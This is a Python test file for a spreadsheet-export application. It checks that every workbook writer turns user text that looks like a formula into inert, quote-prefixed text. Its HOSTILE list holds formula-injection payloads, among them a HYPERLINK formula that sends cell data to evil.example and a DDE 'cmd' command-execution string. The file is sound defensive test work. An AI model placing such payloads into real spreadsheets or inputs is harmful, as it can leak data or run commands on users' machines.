"""No formulas from user text in any workbook Tongket writes (formula / CSV injection).

Hostile text goes through every writer: the collection template, the analytics export, the
report annexes and the official-forms workbook. No cell of the produced files may be a formula,
except the template's own SUM totals; the hostile text must be there as text."""

from __future__ import annotations

import dataclasses
import io
import re

import openpyxl
import pytest

from tongket.core.xlsx import put_text, seal

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=1+2",
]
SUM_ONLY = re.compile(r"=SUM\([A-Z]+[0-9]+(:[A-Z]+[0-9]+)?(,[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)*\)")


def cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def assert_no_user_formula(data: bytes, must_contain: list[str]) -> None:
    texts = set()
    for sheet, c in cells(data):
        if c.data_type == "f":
            assert SUM_ONLY.fullmatch(str(c.value)), f"{sheet}!{c.coordinate}: {c.value!r}"
        elif isinstance(c.value, str):
            texts.add(c.value)
            if c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert c.quotePrefix, f"{sheet}!{c.coordinate} lacks the quote prefix"
    blob = "\n".join(texts)
    for text in must_contain:
        assert text in blob, f"{text!r} is not in the workbook as text"


def test_seal_turns_foreign_formulas_into_text_and_keeps_its_own():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "=HYPERLINK(1)"
    ws["A2"] = "=SUM(B1:B2)"
    ws.append(["@SUM(1)", "+cmd", 3])
    put_text(ws["C1"], "=1+1")
    assert ws["A1"].data_type == "f" and ws["C1"].data_type == "s"
    assert seal(wb, keep={(ws.title, "A2")}) == 3  # A1 to text; A3 and B3 quote-prefixed
    buf = io.BytesIO()
    wb.save(buf)
    got = {c.coordinate: c for _, c in cells(buf.getvalue())}
    assert got["A1"].data_type == "s" and got["A1"].value == "=HYPERLINK(1)"
    assert got["A2"].data_type == "f"
    assert got["C1"].data_type == "s" and got["C1"].quotePrefix
    assert got["A3"].quotePrefix and got["B3"].quotePrefix and got["C3"].value == 3


@pytest.mark.django_db
def test_collection_template():
    import copy

    from tongket.catalog.models import Form
    from tongket.collection.excel import WorkbookMeta, build_workbook

    form = Form.objects.get(code="02.ĐN-TH", is_current=True)
    layout = copy.deepcopy(form.layout)
    layout["sections"][0]["title"] = HOSTILE[4]
    layout["sections"][0]["rows"][0]["label"] = HOSTILE[0]
    meta = WorkbookMeta(
        form_code="02.ĐN-TH",
        form_version="1",
        form_name=HOSTILE[1],
        round_id=1,
        period="2025-2026",
        unit_code="T0000001",
        unit_name="+cmd",
        status="draft",
    )
    data = build_workbook(
        meta,
        layout,
        {("pupils", "grade=1;level=TH"): 3},
        {"w:1": "=1+1 giải trình", HOSTILE[5]: HOSTILE[3]},
        hmac_key=b"k",
    )
    assert_no_user_formula(data, ["=1+1 giải trình", HOSTILE[3], HOSTILE[4], HOSTILE[0]])


def test_analytics_export():
    from tongket.analytics import export

    data = export.workbook(
        "Kết quả so với chỉ tiêu",
        "@SUM(1) · 2025-2026",
        ["Mã", "Chỉ số", "Văn bản", "Kết quả"],
        [["x", "+cmd", HOSTILE[0], 1.5], ["y", "-2+3", "=1+1", None]],
    )
    assert_no_user_formula(data, [HOSTILE[0], "=1+1", "+cmd", "@SUM(1) · 2025-2026"])


def test_report_annexes():
    from tongket.reports.docgen import build_xlsx
    from tongket.reports.docgen.sample import sample_report

    report = sample_report(n_communes=3, n_schools=4, charts=False)
    report.annexes[0].rows[0][0] = HOSTILE[0]
    report.annexes[0].note = "=1+1"
    if report.indicators:
        first = report.indicators[0]
        report.indicators[0] = dataclasses.replace(first, name="@SUM(1)")
        if first.target is not None:
            first.target.source_document = HOSTILE[2]
    data = build_xlsx(report)
    assert_no_user_formula(data, [HOSTILE[0], "=1+1"])


@pytest.mark.django_db
def test_official_forms_workbook():
    from tongket.catalog.models import Form
    from tongket.core.testing.factories import commune
    from tongket.reports.formsxlsx import build_forms_xlsx

    unit = commune("03127")
    unit.name = "+cmd"  # not saved: only what the writer is handed
    form = Form.objects.filter(is_current=True).first()
    assert form is not None
    form.source = HOSTILE[0]
    form.name_vi = "=1+1"
    data = build_forms_xlsx(unit, "2025-2026", forms=[form])
    assert_no_user_formula(data, ["=1+1"])
    assert any(HOSTILE[0] in str(c.value) for _, c in cells(data))


@pytest.mark.django_db
def test_analytics_export_through_the_view_with_a_hostile_target_source(client):
    """The issue's case end to end: a target whose source is =HYPERLINK(...), exported."""
    from tongket.analytics import actions
    from tongket.analytics.tests.helpers import province, put
    from tongket.core.models import Role
    from tongket.core.testing.factories import commune, make_school, make_user

    school = make_school(commune("03127")).unit
    put(school, "2025-2026", "pupils", "level=TH", 120)
    put(school, "2025-2026", "dropouts", "level=TH", 2)
    actions.set_target(None, "dropout_th", province(), "2025-2026", value=1.5, source=HOSTILE[0])
    client.force_login(make_user(Role.PROVINCE, province()))
    resp = client.get("/analytics/xuat/plan.xlsx", {"period": "2025-2026"})
    assert resp.status_code == 200
    assert_no_user_formula(resp.content, [HOSTILE[0]])
